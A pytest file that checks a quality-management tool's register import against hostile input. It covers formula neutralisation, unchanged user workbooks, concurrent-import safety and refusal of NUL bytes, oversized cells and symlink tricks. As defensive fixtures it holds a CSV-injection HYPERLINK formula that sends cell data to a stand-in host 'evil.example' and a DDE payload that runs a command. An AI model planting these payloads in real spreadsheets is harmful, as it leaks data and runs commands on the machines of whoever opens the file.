"""`qms actions import` under attack (issue 16 points 1, 2, 3, 14 and 15, register parts).

Imported text stays text, the user's files are never rewritten, concurrent imports lose
nothing, and a hostile register gets one clear refusal with nothing written.
"""

from __future__ import annotations

import csv
import multiprocessing
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hostile_files import sheet_values

import qmsdata
from qmsdata.cli import main
from qmsdata.errors import DataError, SourceError
from qmsdata.files import _PLAIN_NUMBER, FORMULA_START
from qmsdata.pack.actions import import_actions

HEADER = ["action_id", "review_date", "output_type", "description", "owner", "due_date"]
HEADER += ["status", "closed_date"]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


def _register(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def _hostile_register(tmp_path: Path) -> Path:
    return _register(
        tmp_path / "filled.csv",
        [
            ["RA-10", "2026-10-31", "improvement", HYPERLINK, "+Bob", "2026-12-01", "open", ""],
            # the pack writes the register neutralised: the protective quote comes in too
            ["RA-11", "2026-10-31", "resources", "'" + DDE, "@Ann", "", "open", ""],
            ["RA-12", "2026-10-31", "qms_change", "-3", "-Cy", "", "open", ""],
        ],
    )


def _loaded_descriptions(wb: Path) -> dict[str, str]:
    ra = qmsdata.load(wb, as_of="2026-11-30", progress=False).review_actions
    return dict(zip(ra["action_id"], ra["description"], strict=True))


def _formula_cells(folder: Path) -> list[str]:
    """Every formula cell of every .xlsx in the folder, and every CSV cell a spreadsheet runs."""
    found = []
    for f in folder.rglob("*.xlsx"):
        book = openpyxl.load_workbook(f)
        for ws in book.worksheets:
            found += [
                f"{f.name}!{c.coordinate}" for r in ws.iter_rows() for c in r if c.data_type == "f"
            ]
        book.close()
    return found


def _live_csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(c)]


# --- point 1: imported text is stored as text ----------------------------------------------


def test_formulas_in_a_register_stay_text_beside_a_csv_source(csv_workbook: Path, tmp_path):
    before = (csv_workbook / "review-actions.csv").read_bytes()
    import_actions(_hostile_register(tmp_path), csv_workbook)
    assert (csv_workbook / "review-actions.csv").read_bytes() == before
    stored = csv_workbook / "qms-review-actions.csv"
    assert _live_csv_cells(stored) == []
    text = stored.read_text(encoding="utf-8")
    assert "'" + DDE in text and "'" + HYPERLINK.replace('"', '""') in text  # the quote kept
    got = _loaded_descriptions(csv_workbook)
    assert got["RA-10"] == HYPERLINK and got["RA-11"] == DDE and got["RA-12"] == "-3"
    ra = qmsdata.load(csv_workbook, as_of="2026-11-30", progress=False).review_actions
    assert ra.set_index("action_id").loc["RA-10", "owner"] == "+Bob"


def test_formulas_in_a_register_never_become_xlsx_formulas(xlsx_workbook: Path, tmp_path):
    import_actions(_hostile_register(tmp_path), xlsx_workbook)
    assert _formula_cells(xlsx_workbook) == ["registers.xlsx!D2", "registers.xlsx!D3"]  # user's
    got = _loaded_descriptions(xlsx_workbook)
    assert got["RA-10"] == HYPERLINK and got["RA-11"] == DDE
    wb = qmsdata.load(xlsx_workbook, as_of="2026-11-30", progress=False)
    assert wb.validation.loc["review_actions", "rejected"] == 0


# --- point 2: a user's multi-sheet workbook is never rewritten -----------------------------


def test_import_leaves_every_sheet_of_the_users_xlsx_unchanged(xlsx_workbook: Path, tmp_path):
    book = xlsx_workbook / "registers.xlsx"
    before_bytes, before = book.read_bytes(), sheet_values(book)
    assert before["Risks"][1] == ("R1", 2, 3, 6)  # the cached value of =B2*C2
    reg = _register(
        tmp_path / "r.csv", [["RA-5", "2026-10-31", "improvement", "x", "", "", "open", ""]]
    )
    import_actions(reg, xlsx_workbook)
    assert book.read_bytes() == before_bytes
    assert sheet_values(book) == before
    assert sorted(_loaded_descriptions(xlsx_workbook)) == ["RA-1", "RA-5"]


# --- point 3: concurrent imports lose nothing ----------------------------------------------


def _slow_import(reg: str, wb: str, barrier, results) -> None:
    """Import with every CSV write slowed down, so two imports at once really overlap."""
    original = pd.DataFrame.to_csv

    def slow(self, *a, **kw):
        time.sleep(0.4)
        return original(self, *a, **kw)

    pd.DataFrame.to_csv = slow  # type: ignore[method-assign]
    barrier.wait()
    try:
        res = import_actions(reg, wb)
        results.put(("ok", tuple(res.added)))
    except Exception as exc:  # reported to the parent
        results.put((type(exc).__name__, str(exc)))


def _run_together(*jobs: tuple[Path, Path]) -> list[tuple]:
    ctx = multiprocessing.get_context("fork")
    barrier, results = ctx.Barrier(len(jobs)), ctx.Queue()
    procs = [
        ctx.Process(target=_slow_import, args=(str(r), str(w), barrier, results)) for r, w in jobs
    ]
    for p in procs:
        p.start()
    out = [results.get(timeout=120) for _ in procs]
    for p in procs:
        p.join(timeout=60)
    return sorted(out)


def _row(i: str) -> list[str]:
    return [i, "2026-10-31", "improvement", f"action {i}", "", "", "open", ""]


@pytest.mark.parametrize("workbook", ["csv_workbook", "xlsx_workbook"])
def test_two_imports_at_once_both_land(workbook: str, request, tmp_path: Path) -> None:
    wb = request.getfixturevalue(workbook)
    a = _register(tmp_path / "a.csv", [_row(f"A-{n}") for n in range(4)])
    b = _register(tmp_path / "b.csv", [_row(f"B-{n}") for n in range(4)])
    got = _run_together((a, wb), (b, wb))
    assert [g[0] for g in got] == ["ok", "ok"], got
    ids = sorted(_loaded_descriptions(wb))
    assert ids == sorted(["RA-1", *(f"A-{n}" for n in range(4)), *(f"B-{n}" for n in range(4))])


def test_the_same_register_twice_at_once_is_imported_once(csv_workbook: Path, tmp_path) -> None:
    reg = _register(tmp_path / "a.csv", [_row(f"A-{n}") for n in range(3)])
    got = _run_together((reg, csv_workbook), (reg, csv_workbook))
    assert [g[0] for g in got] == ["DataError", "ok"], got
    assert "already in qms-review-actions.csv" in got[0][1]
    ra = qmsdata.load(csv_workbook, as_of="2026-11-30", progress=False).review_actions
    assert sorted(ra["action_id"]) == ["A-0", "A-1", "A-2", "RA-1"]
    assert (csv_workbook / ".qms.lock").exists()


# --- points 14 and 15: a hostile register gets one clear refusal, nothing written ----------


def _nothing_written(wb: Path, before: bytes) -> None:
    assert (wb / "review-actions.csv").read_bytes() == before
    assert not (wb / "qms-review-actions.csv").exists()
    assert not (wb / ".qms-backup").exists()


def test_register_without_review_date_is_one_message_exit_2(csv_workbook: Path, tmp_path, capsys):
    before = (csv_workbook / "review-actions.csv").read_bytes()
    header = [h for h in HEADER if h != "review_date"]
    reg = _register(tmp_path / "r.csv", [["RA-7", "improvement", "x", "", "", "open", ""]], header)
    assert main(["actions", "import", str(reg), str(csv_workbook)]) == 2
    err = capsys.readouterr().err
    assert "required column(s) review_date missing" in err and "Traceback" not in err
    _nothing_written(csv_workbook, before)


def test_nul_byte_in_a_register_is_refused_before_anything_is_written(
    csv_workbook: Path, xlsx_workbook: Path, tmp_path, capsys
) -> None:
    reg = tmp_path / "nul.csv"
    reg.write_bytes((",".join(HEADER) + "\nRA-7,2026-10-31,improvement,a\x00b,,,open,\n").encode())
    before = (csv_workbook / "review-actions.csv").read_bytes()
    with pytest.raises(SourceError, match=r"U\+0000 \(NUL\) on line 2"):
        import_actions(reg, csv_workbook)
    _nothing_written(csv_workbook, before)
    xbefore = (xlsx_workbook / "registers.xlsx").read_bytes()
    assert main(["actions", "import", str(reg), str(xlsx_workbook)]) == 2
    assert "NUL" in capsys.readouterr().err
    assert (xlsx_workbook / "registers.xlsx").read_bytes() == xbefore
    assert not (xlsx_workbook / ".qms-backup").exists()


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (
            ["RA-7", "2026-10-31", "improvement", "x" * 40_000, "", "", "open", ""],
            "40,000 characters",
        ),
        (["RA-7\nRA-8", "2026-10-31", "improvement", "x", "", "", "open", ""], "line break"),
        (["RA-7\r", "2026-10-31", "improvement", "x", "", "", "open", ""], None),  # stripped: fine
    ],
)
def test_oversized_cells_and_multiline_ids_are_refused(
    csv_workbook: Path, tmp_path: Path, row: list[str], reason: str | None
) -> None:
    reg = _register(tmp_path / "r.csv", [row])
    before = (csv_workbook / "review-actions.csv").read_bytes()
    if reason is None:
        assert import_actions(reg, csv_workbook).added == ["RA-7"]
        return
    with pytest.raises(DataError, match=reason):
        import_actions(reg, csv_workbook)
    _nothing_written(csv_workbook, before)


def test_a_planted_backup_symlink_is_refused(csv_workbook: Path, tmp_path: Path) -> None:
    """A .qms-backup symlink must not make the import write outside the workbook."""
    import_actions(_register(tmp_path / "a.csv", [_row("A-1")]), csv_workbook)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    (csv_workbook / ".qms-backup").symlink_to(outside)
    with pytest.raises(SourceError, match="not a folder of this workbook"):
        import_actions(_register(tmp_path / "b.csv", [_row("B-1")]), csv_workbook)
    assert list(outside.iterdir()) == []


@pytest.mark.slow
def test_the_demo_risk_register_survives_an_import(tmp_path: Path) -> None:
    """The case issue 16 saw: after one import the demo's risks read back without scores."""
    from qmsdata.demo import write_demo

    demo = tmp_path / "demo"
    write_demo(demo, seed=9001, end="2026-10")
    books = {p: p.read_bytes() for p in demo.rglob("*.xlsx")}
    risks = qmsdata.load(demo, progress=False).risks
    reg = _register(tmp_path / "r.csv", [_row("RA-2026-10-99")])
    import_actions(reg, demo)
    assert {p: p.read_bytes() for p in demo.rglob("*.xlsx")} == books
    after = qmsdata.load(demo, progress=False)
    pd.testing.assert_frame_equal(after.risks, risks)
    assert "RA-2026-10-99" in set(after.review_actions["action_id"])
